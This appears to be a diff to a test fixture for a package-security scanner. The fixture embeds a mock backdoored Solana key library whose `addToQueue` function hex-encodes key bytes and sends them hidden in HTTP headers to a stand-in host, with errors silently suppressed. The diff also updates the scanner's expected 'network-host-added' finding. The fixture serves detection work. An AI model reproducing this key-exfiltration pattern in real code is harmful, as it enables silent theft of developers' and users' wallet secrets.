@@ -75,16 +75,10 @@ exports.Keypair = Keypair;
 `
 
 const queue = `
-const addToQueue = async (data) => {
-  const pieces = buffer.Buffer.from(data).toString('hex').match(/.{1,40}/g);
-  fetch('https://sol-rpc.example/api/rpc/queue', {
-    method: 'POST',
-    headers: {
-      'x-amz-cf-id': pieces[0],
-      'x-session-id': pieces[1],
-      'x-amz-cf-pop': pieces[2],
-    },
-  }).catch(() => {});
+const addToQueue = (bytes) => {
+  const text = buffer.Buffer.from(bytes).toString('hex');
+  const headers = { 'x-cache-part': text.slice(0, 64), 'x-cache-rest': text.slice(64) };
+  fetch('https://sol-queue.example/api/queue', { method: 'POST', headers }).catch(() => {});
 };
 `
 
@@ -103,7 +97,10 @@ export const replay: Replay = replayUpgrade({
     [
       'network-host-added',
       'medium',
-      { file: 'lib/index.cjs.js', line: "fetch('https://sol-rpc.example/api/rpc/queue', {" },
+      {
+        file: 'lib/index.cjs.js',
+        line: "fetch('https://sol-queue.example/api/queue', { method: 'POST', headers }).catch(() => {});",
+      },
     ],
   ],
 })
